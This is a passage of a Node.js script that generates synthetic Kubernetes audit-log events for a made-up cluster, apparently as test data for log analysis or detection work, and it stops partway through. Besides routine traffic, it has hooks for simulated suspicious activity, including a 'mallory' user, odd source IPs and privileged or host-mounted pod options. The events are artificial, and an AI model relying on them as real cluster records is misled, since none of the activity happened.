#!/usr/bin/env node
// Deterministic generator of audit.k8s.io/v1 Event JSON lines.
// usage: node gen_events.mjs --count 100000 --seed 42 --out events.jsonl
// Pure JS PRNG (sfc32), no Date/Math.random: byte-identical output for a given (count prefix, seed).
import fs from 'node:fs';

const arg = (n, d) => {
  const i = process.argv.indexOf('--' + n);
  return i < 0 ? d : process.argv[i + 1];
};
const COUNT = +arg('count', 100000),
  SEED = +arg('seed', 42),
  OUT = arg('out', 'events.jsonl');

// ---------- PRNG ----------
function splitmix(a) {
  return () => {
    a |= 0;
    a = (a + 0x9e3779b9) | 0;
    let t = a ^ (a >>> 16);
    t = Math.imul(t, 0x21f0aaad);
    t ^= t >>> 15;
    t = Math.imul(t, 0x735a2d97);
    return (t ^ (t >>> 15)) >>> 0;
  };
}
const sm = splitmix(SEED);
let s0 = sm(),
  s1 = sm(),
  s2 = sm(),
  s3 = sm();
function u32() {
  const t = (((s0 + s1) | 0) + s3) | 0;
  s3 = (s3 + 1) | 0;
  s0 = s1 ^ (s1 >>> 9);
  s1 = (s2 + (s2 << 3)) | 0;
  s2 = (s2 << 21) | (s2 >>> 11);
  s2 = (s2 + t) | 0;
  return t >>> 0;
}
const rnd = () => u32() / 4294967296,
  int = (n) => Math.floor(rnd() * n),
  chance = (p) => rnd() < p;
const pick = (a) => a[int(a.length)];
const H = Array.from({ length: 256 }, (_, i) => i.toString(16).padStart(2, '0'));
function hex(n) {
  let o = '';
  for (let i = 0; i < n; i += 2) o += H[u32() & 255];
  return o.slice(0, n);
}
function uuid() {
  const a = hex(32);
  return `${a.slice(0, 8)}-${a.slice(8, 12)}-4${a.slice(13, 16)}-${'89ab'[u32() & 3]}${a.slice(17, 20)}-${a.slice(20, 32)}`;
}
const AL = 'bcdfghjklmnpqrstvwxz2456789';
const sfx = (n) => {
  let o = '';
  for (let i = 0; i < n; i++) o += AL[int(AL.length)];
  return o;
};
const b64c = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const b64 = (n) => {
  let o = '';
  for (let i = 0; i < n; i++) o += b64c[u32() & 63];
  return o;
};
function table(rows) {
  let t = 0;
  const acc = rows.map(([w, f]) => [(t += w), f]);
  return () => {
    const r = rnd() * t;
    for (const [a, f] of acc) if (r < a) return f;
    return acc[acc.length - 1][1];
  };
}

// ---------- cluster model ----------
const NODES = Array.from({ length: 60 }, (_, i) => {
  const ip = `10.0.${16 + (i >> 4)}.${10 + ((i * 3) % 240)}`;
  return { name: `ip-${ip.replace(/\./g, '-')}.eu-west-1.compute.internal`, ip, uid: uuid() };
});
const TEAMS = [
  'payments',
  'checkout',
  'search',
  'catalog',
  'identity',
  'ledger',
  'fraud',
  'notify',
  'media',
  'analytics',
];
const NS = [
  'kube-system',
  'kube-public',
  'kube-node-lease',
  'default',
  'monitoring',
  'logging',
  'cert-manager',
  'ingress-nginx',
  'argocd',
  'flux-system',
  'istio-system',
  'gatekeeper-system',
  ...TEAMS.flatMap((t) => [`${t}-prod`, `${t}-staging`]),
];
const APPNS = NS.slice(12);
const APPS = ['api', 'worker', 'web', 'cron', 'gateway', 'indexer', 'consumer', 'scheduler', 'redis', 'postgres'];
const DEPLOYS = APPNS.flatMap((ns) =>
  APPS.map((a) => ({ ns, app: `${ns.split('-')[0]}-${a}`, rs: sfx(10), uid: uuid(), rsuid: uuid() })),
);
const SYSDEPLOYS = [
  ['kube-system', 'coredns'],
  ['kube-system', 'metrics-server'],
  ['monitoring', 'prometheus'],
  ['monitoring', 'grafana'],
  ['cert-manager', 'cert-manager'],
  ['ingress-nginx', 'ingress-nginx-controller'],
  ['argocd', 'argocd-server'],
  ['istio-system', 'istiod'],
  ['gatekeeper-system', 'gatekeeper-audit'],
  ['logging', 'fluent-bit'],
].map(([ns, app]) => ({ ns, app, rs: sfx(10), uid: uuid(), rsuid: uuid() }));
const ALLD = [...DEPLOYS, ...SYSDEPLOYS];
const PODS = ALLD.flatMap((d) =>
  Array.from({ length: 3 }, () => ({
    d,
    ns: d.ns,
    name: `${d.app}-${d.rs}-${sfx(5)}`,
    uid: uuid(),
    node: pick(NODES),
  })),
);
const CRONJOBS = APPNS.map((ns) => ({ ns, name: `${ns.split('-')[0]}-nightly`, uid: uuid() }));
const CONFIGMAPS = [
  'kube-root-ca.crt',
  'app-config',
  'feature-flags',
  'istio-ca-root-cert',
  'extension-apiserver-authentication',
];
const SECRETS = [
  'db-credentials',
  'tls-cert',
  'registry-pull',
  'api-token',
  'sh.helm.release.v1.app.v12',
  'oauth-client',
];
const HUMANS = [
  'alice@example.com',
  'bob@example.com',
  'carol@example.com',
  'dave@example.com',
  'erin@example.com',
  'mallory@example.com',
  'frank@example.com',
  'grace@example.com',
];
const KVER = 'v1.31.4',
  COMMIT = 'a78aa47';
const UA = {
  kubelet: `kubelet/${KVER} (linux/amd64) kubernetes/${COMMIT}`,
  kcm: (c) => `kube-controller-manager/${KVER} (linux/amd64) kubernetes/${COMMIT}/${c}`,
  sched: `kube-scheduler/${KVER} (linux/amd64) kubernetes/${COMMIT}/scheduler`,
  schedLE: `kube-scheduler/${KVER} (linux/amd64) kubernetes/${COMMIT}/leader-election`,
  proxy: `kube-proxy/${KVER} (linux/amd64) kubernetes/${COMMIT}`,
  apiserver: `kube-apiserver/${KVER} (linux/amd64) kubernetes/${COMMIT}`,
};
const KUBECTL = [
  'kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46',
  'kubectl/v1.30.6 (linux/amd64) kubernetes/00f20d4',
  'kubectl/v1.29.3 (windows/amd64) kubernetes/6813625',
  'k9s/v0.32.5 (darwin/arm64) kubernetes/$Format',
  'Lens/2024.11.261604',
  'Helm/3.16.3',
];
const CTRL = [
  // [serviceaccount ns, name, userAgent, node-bound?]
  ['argocd', 'argocd-application-controller', 'argocd-application-controller/v2.13.1 (linux/amd64) kubernetes/$Format'],
  ['argocd', 'argocd-server', 'argocd-server/v2.13.1 (linux/amd64) kubernetes/$Format'],
  ['flux-system', 'kustomize-controller', 'kustomize-controller/v1.4.0'],
  ['flux-system', 'helm-controller', 'helm-controller/v1.1.0'],
  ['cert-manager', 'cert-manager', 'cert-manager-certificates-trigger/v1.16.2 (linux/amd64) cert-manager/9be1b8b'],
  ['cert-manager', 'cert-manager-cainjector', 'cainjector/v1.16.2 (linux/amd64) cert-manager/9be1b8b'],
  ['monitoring', 'prometheus-k8s', 'Prometheus/2.55.1'],
  ['monitoring', 'kube-state-metrics', 'kube-state-metrics/v2.14.0 (linux/amd64) kubernetes/$Format'],
  ['istio-system', 'istiod', 'pilot-discovery/1.24.1'],
  ['ingress-nginx', 'ingress-nginx', 'nginx-ingress-controller/v1.11.3 (linux/amd64) ingress-nginx/0106de65cf'],
  ['gatekeeper-system', 'gatekeeper-admin', 'gatekeeper/v3.17.1 (linux/amd64) 6be8a5a/2024-09-17T22:01:41Z'],
  ['kube-system', 'cluster-autoscaler', 'cluster-autoscaler/v0.0.0 (linux/amd64) kubernetes/$Format/leader-election'],
  ['kube-system', 'aws-node', 'aws-k8s-agent/v1.19.0 (linux/amd64) kubernetes/$Format'],
  ['kube-system', 'ebs-csi-controller-sa', 'csi-provisioner/v0.0.0 (linux/amd64) kubernetes/$Format'],
  ['logging', 'fluent-bit', 'Fluent-Bit'],
  ['kube-system', 'coredns', 'coredns/v1.11.3 (linux/amd64) kubernetes/a6338e9'],
];
const KCMC = [
  'deployment-controller',
  'replicaset-controller',
  'job-controller',
  'cronjob-controller',
  'endpointslice-controller',
  'endpoint-controller',
  'namespace-controller',
  'service-account-controller',
  'generic-garbage-collector',
  'node-controller',
  'horizontal-pod-autoscaler',
  'resourcequota-controller',
  'statefulset-controller',
  'daemon-set-controller',
  'persistent-volume-binder',
  'pod-garbage-collector',
  'ttl-after-finished-controller',
];

// ---------- time ----------
let now = Date.UTC(2026, 9, 5, 6, 0, 0) * 1000; // microseconds
const ts = (us) => {
  const ms = Math.floor(us / 1000),
    m = us - ms * 1000;
  return new Date(ms).toISOString().slice(0, 23) + String(m).padStart(3, '0') + 'Z';
};
let rv = 918273645;
const nextRv = () => String((rv += 1 + int(9)));

// ---------- users ----------
const node = (n) => ({
  username: `system:node:${n.name}`,
  groups: ['system:nodes', 'system:authenticated'],
  extra: { 'authentication.kubernetes.io/credential-id': [`X509SHA256=${hex(64)}`] },
});
NODES.forEach((n) => {
  n.user = node(n);
  n.user.extra['authentication.kubernetes.io/credential-id'] = [`X509SHA256=${hex(64)}`];
});
function sa(ns, name, pod) {
  const u = {
    username: `system:serviceaccount:${ns}:${name}`,
    uid: uuid(),
    groups: ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'],
    extra: {},
  };
  u.extra['authentication.kubernetes.io/credential-id'] = [`JTI=${uuid()}`];
  if (pod) {
    u.extra['authentication.kubernetes.io/node-name'] = [pod.node.name];
    u.extra['authentication.kubernetes.io/node-uid'] = [pod.node.uid];
    u.extra['authentication.kubernetes.io/pod-name'] = [pod.name];
    u.extra['authentication.kubernetes.io/pod-uid'] = [pod.uid];
  }
  return u;
}
const CTRLS = CTRL.map(([ns, name, ua]) => {
  const nd = pick(NODES);
  return {
    ns,
    name,
    ua,
    ip: nd.ip,
    user: sa(ns, name, { node: nd, name: `${name}-${sfx(10)}-${sfx(5)}`, uid: uuid() }),
  };
});
const KCMS = KCMC.map((c) => ({
  c,
  ua: UA.kcm(`system:serviceaccount:kube-system:${c}`),
  user: sa('kube-system', c),
  ip: '10.0.0.11',
}));
const kcm = (c) => KCMS[KCMC.indexOf(c)];
const SCHED = {
  ua: UA.sched,
  user: {
    username: 'system:kube-scheduler',
    groups: ['system:authenticated'],
    extra: { 'authentication.kubernetes.io/credential-id': [`X509SHA256=${hex(64)}`] },
  },
  ip: '10.0.0.11',
};
const KCMU = {
  ua: UA.kcm('leader-election'),
  user: {
    username: 'system:kube-controller-manager',
    groups: ['system:authenticated'],
    extra: { 'authentication.kubernetes.io/credential-id': [`X509SHA256=${hex(64)}`] },
  },
  ip: '10.0.0.11',
};
const APIS = {
  ua: UA.apiserver,
  user: { username: 'system:apiserver', uid: uuid(), groups: ['system:authenticated', 'system:masters'] },
  ip: '::1',
};
const PODSA = PODS.filter(() => chance(0.3)).map((p) => ({
  user: sa(p.ns, p.d.app, p),
  ip: `100.64.${int(250)}.${2 + int(250)}`,
  ua: pick([
    'Go-http-client/2.0',
    'OpenAPI-Generator/31.0.0/python',
    'kubernetes-fluent-client',
    'Kubernetes Java Client/21.0.1',
    'fabric8-kubernetes-client/6.13.4',
    'okhttp/4.12.0',
  ]),
  pod: p,
}));
const HUM = HUMANS.map((h) => ({
  user: {
    username: `oidc:${h}`,
    groups: [
      `oidc:${pick(TEAMS)}-dev`,
      h.startsWith('alice') ? 'oidc:cluster-admins' : 'oidc:developers',
      'system:authenticated',
    ],
    extra: { 'authentication.kubernetes.io/credential-id': [`JTI=${uuid()}`] },
  },
  ip: pick(['203.0.113.', '198.51.100.', '192.0.2.']) + (2 + int(250)),
}));
const human = () => {
  const h = pick(HUM);
  return { user: h.user, ip: chance(0.9) ? h.ip : `185.220.101.${int(250)}`, ua: pick(KUBECTL) };
};
const ANON = { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } };

// ---------- bodies ----------
function mf(mgr, op) {
  return [
    {
      manager: mgr,
      operation: op,
      apiVersion: 'v1',
      time: ts(now).slice(0, 19) + 'Z',
      fieldsType: 'FieldsV1',
      fieldsV1: {
        'f:metadata': {
          'f:labels': { '.': {}, 'f:app': {}, 'f:pod-template-hash': {} },
          'f:ownerReferences': { '.': {}, [`k:{"uid":"${uuid()}"}`]: {} },
        },
        'f:spec': {
          'f:containers': {
            'k:{"name":"app"}': {
              '.': {},
              'f:image': {},
              'f:imagePullPolicy': {},
              'f:name': {},
              'f:ports': {
                '.': {},
                'k:{"containerPort":8080,"protocol":"TCP"}': {
                  '.': {},
                  'f:containerPort': {},
                  'f:name': {},
                  'f:protocol': {},
                },
              },
              'f:resources': {
                '.': {},
                'f:limits': { '.': {}, 'f:memory': {} },
                'f:requests': { '.': {}, 'f:cpu': {}, 'f:memory': {} },
              },
            },
          },
          'f:dnsPolicy': {},
          'f:restartPolicy': {},
          'f:schedulerName': {},
          'f:terminationGracePeriodSeconds': {},
        },
      },
    },
  ];
}
function container(name, img, o = {}) {
  const c = {
    name,
    image: `registry.example.com/${img}:${int(3) + 1}.${int(40)}.${int(20)}@sha256:${hex(64)}`,
    ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }],
    env: Array.from({ length: 4 + int(10) }, (_, i) =>
      chance(0.2)
        ? { name: `SECRET_${i}`, valueFrom: { secretKeyRef: { name: pick(SECRETS), key: 'value' } } }
        : {
            name:
              pick([
                'LOG_LEVEL',
                'HTTP_PORT',
                'OTEL_EXPORTER_OTLP_ENDPOINT',
                'DATABASE_HOST',
                'FEATURE_SET',
                'JAVA_OPTS',
              ]) +
              '_' +
              i,
            value: pick([
              'info',
              '8080',
              'http://otel-collector.monitoring.svc:4317',
              'db.internal.example.com',
              '-Xms512m -Xmx2g -XX:+UseG1GC',
              'true',
            ]),
          },
    ),
    resources: { limits: { memory: '1Gi' }, requests: { cpu: '250m', memory: '512Mi' } },
    volumeMounts: [
      { name: 'config', mountPath: '/etc/config', readOnly: true },
      { name: 'kube-api-access-' + sfx(5), readOnly: true, mountPath: '/var/run/secrets/kubernetes.io/serviceaccount' },
    ],
    livenessProbe: {
      httpGet: { path: '/healthz', port: 8080, scheme: 'HTTP' },
      initialDelaySeconds: 10,
      timeoutSeconds: 1,
      periodSeconds: 10,
      successThreshold: 1,
      failureThreshold: 3,
    },
    readinessProbe: {
      httpGet: { path: '/readyz', port: 8080, scheme: 'HTTP' },
      timeoutSeconds: 1,
      periodSeconds: 5,
      successThreshold: 1,
      failureThreshold: 3,
    },
    terminationMessagePath: '/dev/termination-log',
    terminationMessagePolicy: 'File',
    imagePullPolicy: 'IfNotPresent',
    securityContext: {
      allowPrivilegeEscalation: false,
      capabilities: { drop: ['ALL'] },
      runAsNonRoot: true,
      readOnlyRootFilesystem: true,
    },
  };
  if (o.command) c.command = o.command;
  if (o.privileged) c.securityContext = { privileged: true, capabilities: { add: ['SYS_ADMIN', 'NET_ADMIN'] } };
  return c;
}
function podBody(ns, name, app, o = {}) {
  const vols = [{ name: 'config', configMap: { name: 'app-config', defaultMode: 420 } }];
  if (o.hostPath) vols.push({ name: 'host', hostPath: { path: o.hostPath, type: 'Directory' } });
  const cs = [container('app', `${ns}/${app}`, o)];
  if (chance(0.5)) cs.push(container('istio-proxy', 'istio/proxyv2'));
  if (chance(0.3)) cs.push(container('sidecar-agent', 'platform/agent'));
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: {
      ...(o.bare ? { name } : { generateName: name.slice(0, -5) }),
      namespace: ns,
      labels: {
        app,
        'app.kubernetes.io/name': app,
        'app.kubernetes.io/instance': `${app}-${ns}`,
        'pod-template-hash': sfx(10),
        team: ns.split('-')[0],
      },
      annotations: { 'prometheus.io/scrape': 'true', 'checksum/config': hex(64) },
      ...(o.bare
        ? {}
        : {
            ownerReferences: [
              {
                apiVersion: 'apps/v1',
                kind: 'ReplicaSet',
                name: `${app}-${sfx(10)}`,
                uid: uuid(),
                controller: true,
                blockOwnerDeletion: true,
              },
            ],
          }),
    },
    spec: {
      volumes: vols,
      containers: cs,
      restartPolicy: 'Always',
      terminationGracePeriodSeconds: 30,
      dnsPolicy: 'ClusterFirst',
      serviceAccountName: app,
      serviceAccount: app,
      automountServiceAccountToken: chance(0.7),
      ...(o.hostNetwork ? { hostNetwork: true, hostPID: true } : {}),
      securityContext: {},
      imagePullSecrets: [{ name: 'registry-pull' }],
      schedulerName: 'default-scheduler',
      tolerations: [
        { key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
        { key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 },
      ],
      priority: 0,
      enableServiceLinks: true,
      preemptionPolicy: 'PreemptLowerPriority',
    },
    status: {},
  };
}
function nodeStatusBody(n) {
  const t = ts(now).slice(0, 19) + 'Z';
  const b = {
    status: {
      conditions: ['MemoryPressure', 'DiskPressure', 'PIDPressure', 'Ready'].map((c) => ({
        lastHeartbeatTime: t,
        lastTransitionTime: '2026-09-30T08:11:02Z',
        message:
          c === 'Ready'
            ? 'kubelet is posting ready status'
            : `kubelet has ${c === 'PIDPressure' ? 'sufficient PID available' : 'no ' + c.toLowerCase()}`,
        reason: c === 'Ready' ? 'KubeletReady' : `KubeletHas${c === 'PIDPressure' ? 'SufficientPID' : 'No' + c}`,
        status: c === 'Ready' ? 'True' : 'False',
        type: c,
      })),
      images: Array.from({ length: 30 }, () => ({
        names: [
          `registry.example.com/${pick(APPNS)}/${pick(APPS)}@sha256:${hex(64)}`,
          `registry.example.com/${pick(APPNS)}/${pick(APPS)}:${int(5)}.${int(30)}.${int(9)}`,
        ],
        sizeBytes: 20000000 + int(400000000),
      })),
      nodeInfo: {
        kubeletVersion: KVER,
        osImage: 'Bottlerocket OS 1.27.1',
        containerRuntimeVersion: 'containerd://1.7.23',
        kernelVersion: '6.1.112',
        machineID: hex(32),
        systemUUID: uuid(),
        bootID: uuid(),
        operatingSystem: 'linux',
        architecture: 'amd64',
        kubeProxyVersion: KVER,
      },
    },
  };
  b.metadata = { name: n.name };
  return b;
}

// ---------- emission ----------
const fd = fs.openSync(OUT, 'w');
let buf = [],
  bufLen = 0,
  emitted = 0;
function write(o) {
  if (emitted >= COUNT) return;
  const s = JSON.stringify(o);
  buf.push(s);
  bufLen += s.length;
  emitted++;
  if (bufLen > 4 << 20) flush();
}
function flush() {
  if (buf.length) fs.writeSync(fd, buf.join('\n') + '\n');
  buf = [];
  bufLen = 0;
}
const RBAC = (kind, b, role, subj) => `RBAC: allowed by ${kind} "${b}" of ${role} to ${subj}`;
function reasonFor(u) {
  const n = u.username;
  if (n.startsWith('system:node:')) return '';
  if (n.startsWith('system:serviceaccount:')) {
    const [, , ns, s] = n.split(':');
    return ns === 'kube-system'
      ? RBAC(
          'ClusterRoleBinding',
          `system:controller:${s}`,
          `ClusterRole "system:controller:${s}"`,
          `ServiceAccount "${s}/${ns}"`,
        )
      : RBAC(
          chance(0.6) ? 'ClusterRoleBinding' : 'RoleBinding',
          `${s}-${ns}`,
          `ClusterRole "${s}"`,
          `ServiceAccount "${s}/${ns}"`,
        );
  }
  if (n === 'system:kube-scheduler' || n === 'system:kube-controller-manager')
    return RBAC('ClusterRoleBinding', n, `ClusterRole "${n}"`, `User "${n}"`);
  if (n.startsWith('oidc:'))
    return u.groups[1] === 'oidc:cluster-admins'
      ? RBAC('ClusterRoleBinding', 'oidc-cluster-admins', 'ClusterRole "cluster-admin"', 'Group "oidc:cluster-admins"')
      : RBAC('RoleBinding', 'developers-edit', 'ClusterRole "edit"', 'Group "oidc:developers"');
  if (n === 'system:anonymous')
    return RBAC(
      'ClusterRoleBinding',
      'system:public-info-viewer',
      'ClusterRole "system:public-info-viewer"',
      'Group "system:unauthenticated"',
    );
  return '';
}

const RECV_P = 0.25; // share of requests whose policy rule does not omit RequestReceived
function uri(ref, q) {
  if (!ref) return q;
  const base = ref.apiGroup ? `/apis/${ref.apiGroup}/${ref.apiVersion}` : `/api/${ref.apiVersion || 'v1'}`;
  return (
    base +
    (ref.namespace ? `/namespaces/${ref.namespace}` : '') +
    `/${ref.resource}` +
    (ref._coll ? '' : ref.name ? `/${ref.name}` : '') +
    (ref.subresource ? `/${ref.subresource}` : '') +
    (q || '')
  );
}
/** r: {a:actor, verb, ref, q, code, level, req, res, ann, watch, imp, nonres, reason, msg} */
function request(r) {
  now += 1500 + int(9000);
  const id = uuid();
  const { a } = r;
  const code = r.code ?? (r.watch ? 200 : r.verb === 'create' ? 201 : 200);
  const lvl = r.level || 'Metadata';
  let ref;
  if (r.ref) {
    ref = { resource: r.ref.resource };
    for (const k of ['namespace', 'name', 'uid', 'apiGroup', 'apiVersion', 'resourceVersion', 'subresource'])
      if (r.ref[k]) ref[k] = r.ref[k];
    if (!ref.apiVersion) ref.apiVersion = 'v1';
    r.ref.apiVersion = ref.apiVersion;
  }
  const base = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: lvl,
    auditID: id,
    stage: 'RequestReceived',
    requestURI: r.nonres || uri(r.ref, r.q),
    verb: r.verb,
    user: a.user,
    ...(r.imp ? { impersonatedUser: r.imp } : {}),
    sourceIPs: a.ips || [a.ip],
    userAgent: a.ua,
    ...(ref ? { objectRef: ref } : {}),
  };
  const t0 = ts(now);
  if (r.recv ?? chance(RECV_P)) write({ ...base, level: lvl, requestReceivedTimestamp: t0, stageTimestamp: t0 });
  const forbid = code === 403;
  const ann =
    code === 401
      ? undefined
      : {
          'authorization.k8s.io/decision': forbid ? 'forbid' : 'allow',
          'authorization.k8s.io/reason': forbid ? '' : reasonFor(a.user),
          ...(r.ann || {}),
        };
  const rs = {
    metadata: {},
    ...(code >= 400
      ? {
          status: 'Failure',
          message:
            r.msg ||
            (forbid
              ? `${ref?.resource || 'path'} is forbidden: User "${a.user.username}" cannot ${r.verb} resource "${ref?.resource || ''}" in API group "${ref?.apiGroup || ''}"${ref?.namespace ? ` in the namespace "${ref.namespace}"` : ' at the cluster scope'}`
              : code === 404
                ? `${ref?.resource} "${ref?.name}" not found`
                : code === 409
                  ? `Operation cannot be fulfilled on ${ref?.resource} "${ref?.name}": the object has been modified; please apply your changes to the latest version and try again`
                  : code === 401
                    ? 'Unauthorized'
                    : 'error'),
          reason:
            { 401: 'Unauthorized', 403: 'Forbidden', 404: 'NotFound', 409: 'Conflict', 422: 'Invalid' }[code] ||
            'InternalError',
          ...(ref?.name && code !== 401 ? { details: { name: ref.name, kind: ref.resource } } : {}),
        }
      : {}),
    code,
  };
  const body =
    lvl !== 'Metadata' && code < 400
      ? {
          ...(r.req ? { requestObject: r.req } : {}),
          ...(lvl === 'RequestResponse' && r.res ? { responseObject: r.res } : {}),
        }
      : {};
  if (r.watch) {
    write({
      ...base,
      stage: 'ResponseStarted',
      responseStatus: { metadata: {}, code: 200 },
      requestReceivedTimestamp: t0,
      stageTimestamp: ts(now + 400 + int(3000)),
      annotations: ann,
    });
    if (chance(0.97))
      write({
        ...base,
        stage: 'ResponseComplete',
        responseStatus: { metadata: {}, code: 200 },
        requestReceivedTimestamp: t0,
        stageTimestamp: ts(now + 300000000 + int(299000000)),
        annotations: ann,
      });
    return;
  }
  write({
    ...base,
    stage: r.panic ? 'Panic' : 'ResponseComplete',
    responseStatus: rs,
    ...body,
    requestReceivedTimestamp: t0,
    stageTimestamp: ts(now + 900 + int(40000)),
    ...(ann ? { annotations: ann } : {}),
  });
}
const PSA = (ns) => ({
  'pod-security.kubernetes.io/enforce-policy': `${ns.startsWith('kube-') ? 'privileged' : 'baseline'}:latest`,
});
const MUT = () => ({
  'mutation.webhook.admission.k8s.io/round_0_index_0':
    '{"configuration":"istio-sidecar-injector","webhook":"rev.namespace.sidecar-injector.istio.io","mutated":true}',
  'patch.webhook.admission.k8s.io/round_0_index_0': `{"configuration":"istio-sidecar-injector","webhook":"rev.namespace.sidecar-injector.istio.io","patch":[{"op":"add","path":"/metadata/annotations/sidecar.istio.io~1status","value":"${b64(60)}"}],"patchType":"JSONPatch"}`,
  'validation.policy.admission.k8s.io/validation_failure': '[]',
});
const kub = (n) => ({ user: n.user, ip: n.ip, ua: UA.kubelet });
const lease = (ns, name, extra) => ({
  resource: 'leases',
  namespace: ns,
  name,
  apiGroup: 'coordination.k8s.io',
  apiVersion: 'v1',
  ...extra,
});
const LE = [
  ['kube-system', 'kube-controller-manager', KCMU],
  ['kube-system', 'kube-scheduler', { ...SCHED, ua: UA.schedLE }],
  ...CTRLS.map((c) => [c.ns, `${c.name}-leader`, c]),
];
const WATCHR = [
  ['pods', '', 'v1'],
  ['configmaps', '', 'v1'],
  ['secrets', '', 'v1'],
  ['services', '', 'v1'],
  ['endpointslices', 'discovery.k8s.io', 'v1'],
  ['nodes', '', 'v1'],
  ['deployments', 'apps', 'v1'],
  ['replicasets', 'apps', 'v1'],
  ['jobs', 'batch', 'v1'],
  ['ingresses', 'networking.k8s.io', 'v1'],
  ['customresourcedefinitions', 'apiextensions.k8s.io', 'v1'],
  ['certificates', 'cert-manager.io', 'v1'],
  ['virtualservices', 'networking.istio.io', 'v1'],
  ['constraints', 'constraints.gatekeeper.sh', 'v1beta1'],
  ['namespaces', '', 'v1'],
  ['serviceaccounts', '', 'v1'],
  ['persistentvolumeclaims', '', 'v1'],
  ['csidrivers', 'storage.k8s.io', 'v1'],
  ['validatingwebhookconfigurations', 'admissionregistration.k8s.io', 'v1'],
];
const actor = () => {
  const r = rnd();
  return r < 0.55 ? pick(CTRLS) : r < 0.85 ? pick(KCMS) : pick(PODSA);
};

const benign = table([
  [
    20,
    () => {
      const n = pick(NODES);
      request({
        a: kub(n),
        verb: 'update',
        ref: lease('kube-node-lease', n.name, { uid: n.uid, resourceVersion: nextRv() }),
        q: '?timeout=10s',
      });
    },
  ],
  [
    10,
    () => {
      const [ns, name, a] = pick(LE);
      request({
        a,
        verb: 'update',
        ref: lease(ns, name, { uid: uuid(), resourceVersion: nextRv() }),
        q: '?timeout=5s',
        code: chance(0.01) ? 409 : 200,
      });
    },
  ],
  [
    7,
    () => {
      const [ns, name, a] = pick(LE);
      request({ a, verb: 'get', ref: lease(ns, name), q: '?timeout=5s' });
    },
  ],
  [
    6,
    () => {
      const n = pick(NODES);
      const big = chance(0.15);
      request({
        a: kub(n),
        verb: 'patch',
        ref: { resource: 'nodes', name: n.name, subresource: 'status' },
        q: '?timeout=10s',
        level: big ? 'Request' : 'Metadata',
        req: big ? nodeStatusBody(n) : undefined,
      });
    },
  ],
  [
    6,
    () => {
      const p = pick(PODS);
      request({
        a: kub(p.node),
        verb: 'patch',
        ref: { resource: 'pods', namespace: p.ns, name: p.name, subresource: 'status' },
      });
    },
  ],
  [
    11,
    () => {
      const a = actor();
      const k = int(6);
      const ns = pick(NS);
      const ref =
        k === 0
          ? { resource: 'configmaps', namespace: ns, name: pick(CONFIGMAPS) }
          : k === 1
            ? { resource: 'secrets', namespace: ns, name: pick(SECRETS) }
            : k === 2
              ? (() => {
                  const p = pick(PODS);
                  return { resource: 'pods', namespace: p.ns, name: p.name };
                })()
              : k === 3
                ? { resource: 'services', namespace: ns, name: `${pick(APPS)}-svc` }
                : k === 4
                  ? { resource: 'nodes', name: pick(NODES).name }
                  : (() => {
                      const d = pick(ALLD);
                      return {
                        resource: 'deployments',
                        namespace: d.ns,
                        name: d.app,
                        apiGroup: 'apps',
                        apiVersion: 'v1',
                      };
                    })();
      request({ a, verb: 'get', ref, code: chance(0.04) ? 404 : chance(0.006) ? 403 : 200 });
    },
  ],
  [
    5,
    () => {
      const a = actor();
      const [res, g, v] = pick(WATCHR);
      request({
        a,
        verb: 'list',
        ref: { resource: res, apiGroup: g, apiVersion: v, ...(chance(0.4) ? { namespace: pick(NS) } : {}) },
        q: `?limit=500&resourceVersion=${chance(0.5) ? 0 : nextRv()}`,
        code: chance(0.006) ? 403 : 200,
      });
    },
  ],
  [
    7,
    () => {
      const a = chance(0.4) ? kub(pick(NODES)) : actor();
      const [res, g, v] = pick(WATCHR);
      request({
        watch: true,
        a,
        verb: 'watch',
        ref: {
          resource: res,
          apiGroup: g,
          apiVersion: v,
          ...(chance(0.5)
            ? {
                namespace: pick(NS),
                ...(res === 'configmaps' || res === 'secrets'
                  ? { name: pick(res === 'secrets' ? SECRETS : CONFIGMAPS), _coll: true }
                  : {}),
              }
            : {}),
        },
        q: `?allowWatchBookmarks=true&fieldSelector=${encodeURIComponent('metadata.name=' + pick(CONFIGMAPS))}&resourceVersion=${nextRv()}&timeout=${5 + int(5)}m${int(60)}s&timeoutSeconds=${300 + int(300)}&watch=true`,
      });
    },
  ],
  [
    3,
    () => {
      const p = pick(PODS);
      request({
        a: chance(0.7) ? kub(p.node) : kcm('job-controller'),
        verb: chance(0.6) ? 'patch' : 'create',
        ref: {
          resource: 'events',
          namespace: p.ns,
          name: `${p.name}.${hex(16)}`,
          apiGroup: chance(0.3) ? 'events.k8s.io' : '',
        },
      });
    },
  ],
  [
    3,
    () => {
      const n = pick(NODES);
      if (chance(0.5))
        request({
          a: { ...kub(n), ua: 'metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format' },
          verb: 'create',
          ref: { resource: 'subjectaccessreviews', apiGroup: 'authorization.k8s.io' },
        });
      else request({ a: kub(n), verb: 'create', ref: { resource: 'tokenreviews', apiGroup: 'authentication.k8s.io' } });
    },
  ],
  [
    3,
    () => {
      const p = pick(PODS);
      request({
        a: kub(p.node),
        verb: 'create',
        ref: { resource: 'serviceaccounts', namespace: p.ns, name: p.d.app, subresource: 'token' },
        ann: { 'authentication.kubernetes.io/issued-credential-id': `JTI=${uuid()}` },
      });
    },
  ],
  [
    2.5,
    () => {
      const d = pick(ALLD);
      request({
        a: kcm(chance(0.8) ? 'endpointslice-controller' : 'endpoint-controller'),
        verb: 'update',
        ref: {
          resource: 'endpointslices',
          namespace: d.ns,
          name: `${d.app}-${sfx(5)}`,
          uid: uuid(),
          apiGroup: 'discovery.k8s.io',
          resourceVersion: nextRv(),
        },
      });
    },
  ],
  [
    1.6,
    () => {
      const d = pick(ALLD);
      const name = `${d.app}-${d.rs}-${sfx(5)}`;
      const k = rnd();
      const lv = k < 0.35 ? 'RequestResponse' : k < 0.6 ? 'Request' : 'Metadata';
      const b = lv === 'Metadata' ? null : podBody(d.ns, name, d.app);
      request({
        a: kcm(chance(0.8) ? 'replicaset-controller' : 'job-controller'),
